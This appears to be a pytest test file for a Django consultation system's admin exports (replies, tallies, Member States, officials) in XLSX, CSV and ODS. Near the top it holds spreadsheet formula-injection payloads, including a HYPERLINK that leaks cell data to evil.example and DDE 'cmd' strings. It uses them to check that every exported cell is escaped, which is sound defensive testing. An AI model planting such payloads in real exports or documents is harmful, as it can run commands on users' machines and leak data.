"""Exports from the admin (django-import-export): replies, results, Member States, officials.

The replies are generated through the services (portal submissions, a revision, replies TSB
recorded late) and exported through the admin's own export view, as TSB would: the tally
recomputed from the exported rows equals the results table. Every text the users typed
carries a formula; no exported cell is a live formula, in any format.
"""

from __future__ import annotations

import csv
import datetime
import io
from collections import defaultdict
from typing import Any

import openpyxl
import pytest
import tablib
from django.contrib import admin
from django.contrib.auth.models import Permission
from django.contrib.contenttypes.models import ContentType
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from accounts.models import MemberState, Official, Region
from consultation import exports, rules, selectors, services
from consultation.attachments import validate_upload
from consultation.models import Circular, Reply, ReplyPosition
from tests import factories

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
AUTH = ReplyPosition.Decision.AUTHORIZE_NO_COMMENTS
AUTH_C = ReplyPosition.Decision.AUTHORIZE_WITH_COMMENTS
AGAINST = ReplyPosition.Decision.DO_NOT_AUTHORIZE
LABELS = {str(d.label): d.value for d in ReplyPosition.Decision}
EXPORT_PERMISSIONS = (
    "consultation.export_reply",
    "consultation.export_circular",
    "accounts.export_memberstate",
    "accounts.export_official",
)


def payload(n: int) -> str:
    return f"{PAYLOADS[n % len(PAYLOADS)]} #{n}"


def grant(user: Any, *names: str) -> None:
    """Give `user` these permissions, creating them if no migration has yet."""
    for name in names:
        app_label, codename = name.split(".")
        model = codename.split("_", 1)[1]
        content_type = ContentType.objects.get(app_label=app_label, model=model)
        permission, _ = Permission.objects.get_or_create(
            content_type=content_type, codename=codename, defaults={"name": f"Can {codename}"}
        )
        user.user_permissions.add(permission)


@pytest.fixture
def exporter(tsb_staff):
    grant(tsb_staff, *EXPORT_PERMISSIONS)
    return tsb_staff


def position(decision: str, n: int) -> dict[str, str]:
    text = payload(n)
    return {
        "decision": decision,
        "comments": text if decision == AUTH_C else "",
        "reasons": text if decision == AGAINST else "",
        "possible_changes": text if decision == AGAINST else "",
    }


def submit(circular, official, decisions, n: int) -> None:
    reply = Reply.objects.filter(circular=circular, member_state=official.member_state).first()
    saved = services.reply_save_draft(
        circular_id=circular.pk,
        official=official,
        expected_revision=reply.revision if reply else 0,
        header={
            "from_name": payload(n),
            "from_title": payload(n + 1),
            "place": payload(n + 2),
            "from_email": official.user.email,  # the signatory's identity (the reply's rule)
        },
        positions={
            draft.pk: position(decision, n)
            for draft, decision in zip(circular.drafts.all(), decisions, strict=True)
        },
    )
    services.reply_submit(
        circular_id=circular.pk, official=official, expected_revision=saved.revision
    )


def record_late(circular, state, staff, decisions, n: int) -> None:
    scan = SimpleUploadedFile("scan.pdf", PDF, content_type="application/pdf")
    received = circular.deadline + datetime.timedelta(hours=1 + n)
    services.reply_record_offline(
        circular_id=circular.pk,
        member_state_id=state.pk,
        actor=staff,
        channel=Reply.Channel.FAX,
        received_at=received,
        header={"from_name": payload(n), "from_title": payload(n + 3)},
        positions={
            draft.pk: position(decision, n)
            for draft, decision in zip(circular.drafts.all(), decisions, strict=True)
        },
        scan=services.AttachmentUpload(file=scan, validated=validate_upload(scan), kind="scan"),
        now=received + datetime.timedelta(minutes=5),
    )


# Draft 1: exactly 70 % (7 of 10) support: may proceed. Draft 2: 6 of 10: may not.
ON_TIME = [
    (AUTH, AUTH),
    (AUTH, AUTH),
    (AUTH, AUTH),
    (AUTH, AUTH),
    (AUTH, AUTH_C),
    (AUTH_C, AUTH_C),
    (AUTH_C, AGAINST),
    (AGAINST, AGAINST),  # revised: first submitted (AUTH, AUTH)
    (AGAINST, AGAINST),
    (AGAINST, AGAINST),
]


@pytest.fixture
def consultation(tsb_staff) -> Circular:
    """Ten Member States reply on time (one revises), an eleventh only late, and one of the
    ten sends a late revision that would break the 70 % if it counted."""
    today = timezone.now().date()
    circular = factories.CircularFactory(
        status=Circular.Status.PUBLISHED,
        published_at=timezone.now(),
        issued_on=today,
        study_period="2025-2028",
        subject=payload(0),
    )
    factories.DraftFactory(circular=circular, order=1, number=payload(1)[:50], title=payload(2))
    factories.DraftFactory(circular=circular, order=2, number=payload(3)[:50], title=payload(4))
    states = [
        factories.MemberStateFactory(
            alpha2=f"Q{chr(65 + i)}",
            alpha3=f"QX{chr(65 + i)}",
            name=payload(10 + i),
            region=Region.values[i % 5],
        )
        for i in range(11)
    ]
    officials = [
        factories.OfficialFactory(
            member_state=state,
            user__first_name=payload(30 + i),
            user__last_name=payload(40 + i),
            official_title=payload(50 + i),
        )
        for i, state in enumerate(states)
    ]
    submit(circular, officials[7], (AUTH, AUTH), 60)  # first version, revised below
    for i, decisions in enumerate(ON_TIME):
        submit(circular, officials[i], decisions, 70 + i)
    record_late(circular, states[10], tsb_staff, (AGAINST, AGAINST), 1)
    record_late(circular, states[0], tsb_staff, (AGAINST, AGAINST), 2)
    Reply.objects.filter(member_state=states[3]).update(is_demo=True)
    return circular


def export_form_data(model: type, extension: str) -> dict[str, str]:
    """What the admin's export page posts: the format, the resource, every field ticked."""
    model_admin = admin.site._registry[model]
    formats = model_admin.get_export_formats()
    index = [f().get_extension() for f in formats].index(extension)
    resource = model_admin.get_export_resource_classes(None)[0]
    data = {"format": str(index), "resource": "0"}
    for name in resource().get_export_order():
        data[f"{resource.__name__.lower()}_{name}"] = "on"
    return data


def admin_export(client, model: type, extension: str) -> bytes:
    url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export")
    page = client.get(url)
    assert page.status_code == 200
    response = client.post(url, export_form_data(model, extension))
    assert response.status_code == 200, response.content[:2000]
    assert response["Content-Disposition"].startswith("attachment;")
    return response.content


def xlsx_rows(content: bytes) -> tuple[list[str], list[list[Any]], list[Any]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    return rows[0], rows[1:], cells


def csv_rows(content: bytes) -> tuple[list[str], list[list[str]]]:
    assert content.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark, for Excel"
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    return rows[0], rows[1:]


def assert_no_live_formula_xlsx(cells: list[Any]) -> None:
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(TRIGGERS), (cell.coordinate, cell.value)


def assert_escaped_csv(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            assert not value.startswith(TRIGGERS), value


def tally_from_rows(header: list[str], rows: list[list[Any]]) -> dict[str, dict[str, Any]]:
    """Recompute each draft's tally from exported rows: per Member State, its latest
    on-time version; late rows apart."""
    col = {name: header.index(name) for name in header}
    latest: dict[str, dict[str, tuple[int, str]]] = defaultdict(dict)
    late: dict[str, set[str]] = defaultdict(set)
    for row in rows:
        draft, state = row[col["draft"]], row[col["Member State"]]
        if row[col["late"]] == "yes":
            late[draft].add(state)
            continue
        version = int(row[col["version"]])
        counted = latest[draft].get(state)
        if counted is None or version > counted[0]:
            latest[draft][state] = (version, LABELS[row[col["decision"]]])
    tallies = {}
    for draft in set(latest) | set(late):
        decisions = [d for _, d in latest[draft].values()]
        no_comments, with_comments = decisions.count(AUTH), decisions.count(AUTH_C)
        replies = len(decisions)
        tallies[draft] = {
            "replies": replies,
            "supporting_no_comments": no_comments,
            "supporting_with_comments": with_comments,
            "not_supporting": decisions.count(AGAINST),
            "percent": round(100 * (no_comments + with_comments) / replies, 1) if replies else None,
            "proceeds": rules.may_proceed(supporting=no_comments + with_comments, replies=replies),
            "late": len(late[draft]),
        }
    return tallies


def expected_tallies(circular: Circular) -> dict[str, dict[str, Any]]:
    table = selectors.circular_results_table(circular=circular)
    return {
        exports.escape_formula(d.number): {
            "replies": d.replies,
            "supporting_no_comments": d.supporting_no_comments,
            "supporting_with_comments": d.supporting_with_comments,
            "not_supporting": d.not_supporting,
            "percent": d.percent,
            "proceeds": d.proceeds,
            "late": len(d.late),
        }
        for d in table.drafts
    }


def test_replies_export_reproduces_the_results_exactly_in_xlsx_and_csv(
    client, signed_in, exporter, consultation
) -> None:
    signed_in(client, exporter)
    expected = expected_tallies(consultation)
    # The case under test: exactly 70 % may proceed, 60 % may not, late replies ignored.
    assert [(t["replies"], t["proceeds"], t["percent"]) for t in expected.values()] == [
        (10, True, 70.0),
        (10, False, 60.0),
    ]

    header, rows, cells = xlsx_rows(admin_export(client, Reply, "xlsx"))
    assert tuple(header) == exports.REPLY_HEADERS
    # 10 counted versions and 3 late ones (2 states), 2 drafts each; the first version of
    # the revised reply is not exported (it no longer counts, and it was not late).
    assert len(rows) == (10 + 2) * 2
    assert tally_from_rows(header, rows) == expected
    assert_no_live_formula_xlsx(cells)

    csv_header, csv_data = csv_rows(admin_export(client, Reply, "csv"))
    assert tuple(csv_header) == exports.REPLY_HEADERS
    assert tally_from_rows(csv_header, csv_data) == expected
    assert_escaped_csv(csv_data)
    # The same rows in both formats (times as text in CSV).
    at = header.index("submitted at (UTC)")
    as_text = [
        [
            v.strftime("%Y-%m-%d %H:%M:%S") if i == at else "" if v is None else str(v)
            for i, v in enumerate(row)
        ]
        for row in rows
    ]
    assert as_text == csv_data


def test_replies_export_columns_types_and_labels(client, signed_in, exporter, consultation) -> None:
    signed_in(client, exporter)
    header, rows, _ = xlsx_rows(admin_export(client, Reply, "xlsx"))
    col = {name: header.index(name) for name in header}
    sheet = openpyxl.load_workbook(io.BytesIO(admin_export(client, Reply, "xlsx"))).active
    data = list(sheet.iter_rows(min_row=2))
    for row in data:
        submitted = row[col["submitted at (UTC)"]]
        assert submitted.is_date and isinstance(submitted.value, datetime.datetime)
        assert submitted.data_type == "d" or submitted.data_type == "n"
        version = row[col["version"]]
        assert version.data_type == "n" and isinstance(version.value, int)
    by_state = defaultdict(list)
    for row in rows:
        by_state[row[col["Member State"]]].append(row)
    states = {s.name: s for s in MemberState.objects.filter(alpha3__startswith="QX")}
    for name, state in states.items():
        for row in by_state[exports.escape_formula(name)]:
            assert row[col["ITU region"]] == state.region
            assert row[col["circular"]] == f"TSB Circular {consultation.number} (2025-2028)"
            demo = Reply.objects.get(member_state=state).is_demo
            assert row[col["demonstration data"]] == ("yes" if demo else "no")
    assert {row[col["demonstration data"]] for row in rows} == {"yes", "no"}
    # The exact time of each version, in UTC, to the second.
    late = [r for r in rows if r[col["late"]] == "yes"]
    assert {r[col["channel"]] for r in late} == {"Fax"}
    for row in late:
        assert row[col["submitted at (UTC)"]] > consultation.deadline.replace(tzinfo=None)
    on_time = [r for r in rows if r[col["late"]] == "no"]
    assert {r[col["channel"]] for r in on_time} == {"Portal"}
    revised = next(s for s in states.values() if s.alpha3 == "QXH")
    versions = {r[col["version"]] for r in by_state[exports.escape_formula(revised.name)]}
    assert versions == {2}
    official = Official.objects.select_related("user").get(member_state=revised)
    signatory = {r[col["signatory"]] for r in by_state[exports.escape_formula(revised.name)]}
    assert signatory == {exports.escape_formula(official.user.get_full_name())}
    # The words written, in full and escaped, only under the box ticked (no more yes/no).
    texts = ("comments", "reasons", "possible changes")
    for row in rows:
        decision = LABELS[row[col["decision"]]]
        written = {name: row[col[name]] for name in texts}
        if decision == AUTH:
            assert written == dict.fromkeys(texts)
        elif decision == AUTH_C:
            assert written["comments"].startswith("'") and " #" in written["comments"]
            assert written["reasons"] is None and written["possible changes"] is None
        else:
            assert written["comments"] is None
            assert written["reasons"] == written["possible changes"]
            assert written["reasons"].startswith("'") and " #" in written["reasons"]
    assert {r[col["attachments"]] for r in rows} == {None}  # the scans are the reply's


def test_no_export_carries_a_live_formula_in_any_format(
    client, signed_in, exporter, consultation
) -> None:
    """Formulas in every text field: Member State names, draft numbers and titles, the
    reply's header, comments, officials' names and titles."""
    signed_in(client, exporter)
    factories.OfficialFactory(
        member_state=MemberState.objects.get(alpha3="QXA"),
        user__email="formula@example.org",
        official_title='=HYPERLINK("http://evil.example")',
        granted_by=exporter,
    )
    for model in (Reply, Circular, MemberState, Official):
        content = admin_export(client, model, "xlsx")
        for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets:
            assert_no_live_formula_xlsx([cell for row in sheet.iter_rows() for cell in row])
        _, _, cells = xlsx_rows(content)
        texts = [c.value for c in cells if isinstance(c.value, str)]
        assert any(t.startswith("'") for t in texts), model  # the payloads are there, escaped
        _, rows = csv_rows(admin_export(client, model, "csv"))
        assert_escaped_csv(rows)
        # Every sheet (the replies' file has three: Replies, Tally, Matrix).
        book = tablib.Databook().load(admin_export(client, model, "ods"), format="ods")
        for sheet in book.sheets():
            for row in [sheet.headers, *sheet]:
                for value in row:
                    if isinstance(value, str):
                        assert not value.startswith(TRIGGERS), (model, sheet.title, value)


def test_results_member_states_and_officials_exports(
    client, signed_in, exporter, consultation
) -> None:
    signed_in(client, exporter)
    header, rows, cells = xlsx_rows(admin_export(client, Circular, "xlsx"))
    col = {name: header.index(name) for name in header}
    assert [r[col["on-time replies"]] for r in rows] == [10, 10]
    assert [r[col["may proceed"]] for r in rows] == ["yes", "no"]
    assert [r[col["percent supporting"]] for r in rows] == [70.0, 60.0]
    assert [r[col["late replies"]] for r in rows] == [2, 2]
    assert [r[col["supporting, no comments"]] for r in rows] == [5, 4]
    assert [r[col["supporting, with comments"]] for r in rows] == [2, 2]
    assert [r[col["not supporting"]] for r in rows] == [3, 4]

    header, rows, _ = xlsx_rows(admin_export(client, MemberState, "xlsx"))
    assert header == ["alpha2", "alpha3", "name", "region", "joined_on", "left_on", "note"]
    MemberState.objects.filter(alpha3="QXA").update(joined_on=datetime.date(2024, 9, 19))
    header, rows, _ = xlsx_rows(admin_export(client, MemberState, "xlsx"))
    qxa = next(r for r in rows if r[1] == "QXA")
    assert qxa[4] == datetime.datetime(2024, 9, 19)  # a date cell (openpyxl reads datetimes)
    _, csv_data = csv_rows(admin_export(client, MemberState, "csv"))
    assert next(r for r in csv_data if r[1] == "QXA")[4] == "2024-09-19"

    header, rows, _ = xlsx_rows(admin_export(client, Official, "xlsx"))
    assert header == [
        "email",
        "first_name",
        "last_name",
        "member_state",
        "role",
        "official_title",
        "active",
        "granted_by",
        "granted_at (UTC)",
    ]
    assert all(isinstance(r[8], datetime.datetime) for r in rows)
    assert {r[6] for r in rows} == {"yes"}


def test_staff_without_the_export_permission_get_403(client, signed_in, consultation) -> None:
    clerk = factories.UserFactory(email="clerk@itu.example", is_staff=True)
    clerk.user_permissions.set(
        Permission.objects.filter(content_type__app_label__in=["consultation", "accounts"]).exclude(
            codename__startswith="export_"
        )
    )
    signed_in(client, clerk)
    for model in (Reply, Circular, MemberState, Official):
        url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export")
        assert client.get(url).status_code == 403
        assert client.post(url, export_form_data(model, "csv")).status_code == 403
        changelist = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")
        page = client.get(changelist)
        assert page.status_code == 200
        assert url not in page.content.decode()
    large = reverse("admin:consultation_reply_export_large")
    assert client.get(large, {"format": "csv"}).status_code == 403
    assert client.get(large, {"format": "xlsx"}).status_code == 403


def test_large_export_buttons_stream_the_same_rows(
    client, signed_in, exporter, consultation
) -> None:
    signed_in(client, exporter)
    page = client.get(reverse("admin:consultation_reply_changelist"))
    assert "Export all replies (large, XLSX)" in page.content.decode()
    large = reverse("admin:consultation_reply_export_large")
    response = client.get(large, {"format": "csv"})
    assert response.status_code == 200 and response.streaming
    streamed = b"".join(response.streaming_content)
    assert csv_rows(streamed) == csv_rows(admin_export(client, Reply, "csv"))
    response = client.get(large, {"format": "xlsx", "circular": consultation.pk})
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    header, rows, cells = xlsx_rows(content)
    assert tuple(header) == exports.REPLY_HEADERS
    assert rows == xlsx_rows(admin_export(client, Reply, "xlsx"))[1]
    assert_no_live_formula_xlsx(cells)
    assert client.get(large, {"circular": "999999"}).status_code == 404
    assert client.post(large).status_code == 405


def test_escape_formula() -> None:
    for value in PAYLOADS:
        assert exports.escape_formula(value) == "'" + value
    for value in ("Switzerland", "ITU-T Q.5051", "'quoted", "", " =1", "2020-02-21"):
        assert exports.escape_formula(value) == value
    assert exports.escape_formula(-1) == -1
    assert exports.escape_formula(None) is None
    assert exports.export_cell("\x01=1+1", native=True) == "\N{REPLACEMENT CHARACTER}=1+1"
    aware = datetime.datetime(2020, 2, 21, 23, 59, 59, 123, tzinfo=datetime.UTC)
    naive = datetime.datetime(2020, 2, 21, 23, 59, 59)
    assert exports.export_cell(aware, native=True) == naive
    assert exports.export_cell(aware, native=False) == "2020-02-21 23:59:59"
    assert exports.export_cell(True, native=True) == "yes"
    assert exports.export_cell(None, native=False) == ""
